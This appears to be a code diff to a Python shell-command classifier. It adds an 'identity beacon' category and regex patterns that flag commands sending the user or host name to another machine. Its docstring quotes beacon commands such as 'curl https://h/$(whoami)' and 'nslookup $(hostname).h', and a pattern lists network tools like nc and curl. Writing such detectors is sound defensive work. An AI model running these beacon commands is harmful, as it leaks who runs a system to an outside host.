@@ -120,6 +120,8 @@ class Command(enum.Enum):
     """dig/nslookup/nc ...: the command itself contacts another machine."""
     ENCODED = "encoded shell"
     """PowerShell with an ``-EncodedCommand`` blob: hides what it runs."""
+    BEACON = "identity beacon"
+    """``curl https://h/$(whoami)``, ``nslookup $(hostname).h``: tells another machine who runs it."""
     DOWNLOAD_AND_RUN = "download and run"
     DOWNLOAD = "download"
     HIDDEN = "hidden"
@@ -204,6 +206,8 @@ def classify(text: str) -> Command:
         return Command.UNKNOWN
     if _ENCODED.search(text):
         return Command.ENCODED
+    if _IDENTITY.search(text) and _REACHES.search(text):
+        return Command.BEACON
     download = bool(_DOWNLOAD.search(text)) and bool(_DOWNLOAD.search(_without_package_queries(text)))
     run = bool(_RUN.search(text))
     if download and run:
@@ -224,6 +228,15 @@ def classify(text: str) -> Command:
             return Command.BUILD_TOOL  # odbc_config, sdl2-config: library flags, like pkg-config
     return Command.OTHER
 
+
+#: The shell's own ways to say who and where it runs: command substitution of an identity
+#: command, or the variables a login sets (not ``$HOME``/``$PWD``: paths a build passes around).
+_IDENTITY = LazyPattern(
+    r"""\$\(\s*(?:whoami|hostname|id|uname|logname)\b[^)]*\)|`\s*(?:whoami|hostname|id|uname)\b[^`]*`|"""
+    r"""\$\{?(?:USER|USERNAME|HOSTNAME|LOGNAME)\b|%(?:USERNAME|COMPUTERNAME|USERDOMAIN)%"""
+)
+#: Programs that contact another machine with what they are given on the command line.
+_REACHES = LazyPattern(r"\b(?:curl|wget|nslookup|dig|host|ping|nc|ncat|telnet|drill|Invoke-WebRequest|iwr)\b")
 
 _CONSOLE_ONLY = LazyPattern(r"^\s*(?:(?:color|cls|clear|reset)(?:\s+[0-9a-fA-F]{1,2})?)?\s*$", re.IGNORECASE)
 
